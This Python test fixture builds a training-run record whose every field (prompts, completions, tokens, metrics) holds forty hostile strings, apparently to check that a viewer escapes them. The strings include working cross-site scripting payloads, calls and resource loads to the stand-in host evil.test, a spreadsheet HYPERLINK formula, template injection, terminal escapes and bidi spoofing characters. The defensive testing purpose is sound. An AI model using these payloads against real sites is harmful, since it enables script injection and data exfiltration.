"""Forty texts that a page must show and not obey, and a run that brings them in every place a file can."""

from __future__ import annotations

from array import array
from pathlib import Path

from equipoise.base import Answer, Completion, Grade, Problem, Rollout
from equipoise.rollouts.run import RunInfo
from equipoise.rollouts.writer import RunWriter

CALL = "window.pwned=1;alert(1);fetch('http://evil.test/')"
PAYLOADS = (
    f"</script><script>{CALL}</script>",
    f"<script>{CALL}</script>",
    f"<!--<script>{CALL}</script>-->",
    "<!-- <script> ",
    "]]><!--",
    f'<img src=x onerror="{CALL}">',
    "<img src=http://evil.test/a.png>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f'<svg><animate onbegin="{CALL}" attributeName=x dur=1s>',
    f"<body onload={CALL}>",
    f'<iframe src="javascript:{CALL}"></iframe>',
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<video><source onerror={CALL}></video>",
    f"<marquee onstart={CALL}>",
    "<link rel=stylesheet href=http://evil.test/a.css>",
    "<style>@import 'http://evil.test/a.css';</style>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<object data=http://evil.test/a.swf>",
    "<form action=http://evil.test/><button>go</button></form>",
    f'" onmouseover="{CALL}" x="',
    f"' onmouseover='{CALL}' x='",
    f"'-({CALL})-'",
    f'\\";{CALL}//',
    f"javascript:{CALL}",
    f'<a href="javascript:{CALL}">link</a>',
    "<a href='http://evil.test/'>link</a>",
    "<b>bold</b><sub>low</sub><span style='color:red'>red</span>",
    "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= 1 %> #{1}",
    "%{customdata} %{x:.3f} $\\frac{1}{2}$ &lt;b&gt; &amp;#60; &#x3c;",
    f"\u2028{CALL}\u2029",
    "\x1b[31mred\x1b]0;title\x07\x9b1m",
    "a\x00b\x01\x08\x7f",
    "\u202egnp.exe\u2066\u2069 \u200b\ufeff",
    "\ud800 lone \udfff",
    '=HYPERLINK("http://evil.test/","x")',
    "__proto__ constructor toString \U000e0041",
)
assert len(PAYLOADS) == 40


def hostile_run(folder: Path, *, samples: int = 2, name: str | None = None) -> Path:
    """A run whose problems, prompts, completions, tokens, answers, reward parts, settings and metrics are the payloads."""
    writer = RunWriter(folder, RunInfo("test", run_id=name or PAYLOADS[0], model=PAYLOADS[5]))
    n = len(PAYLOADS)
    stored = [payload.encode("utf-8", "replace").decode() for payload in PAYLOADS]  # Arrow holds no lone surrogate
    rollouts = [
        Rollout(
            run_id=PAYLOADS[place % 3],
            split=PAYLOADS[6],
            step=step,
            group_id=payload,
            sample_index=sample,
            problem=Problem(payload, PAYLOADS[7], payload, reference=payload),
            completion=Completion(
                payload + payload,
                n_tokens=n,
                finish="length" if sample else "stop",
                token_ids=array("i", [place, *range(n - 1)]),
                logprobs=array("f", [-0.5] * n),
                entropies=array("f", [(3.2 * i) / n for i in range(n)]),
            ),
            grade=Grade(Answer(payload), "wrong" if sample else "right", float(1 - sample), parts={payload: 0.25}),
            extra={"topk_ids": [[place, (place + 1) % n]] * n, "topk_logprobs": [[-0.5, -2.0]] * n},
        )
        for step in (0, 1)
        for place, payload in enumerate(stored)
        for sample in range(samples)
    ]
    writer.write(rollouts)
    writer.vocab(dict(enumerate(PAYLOADS)))
    for step in range(2):
        writer.log(step, {"entropy": 1.0 - 0.1 * step, "reward": 0.5, PAYLOADS[0]: 1.0, PAYLOADS[5]: 2.0})
    return folder
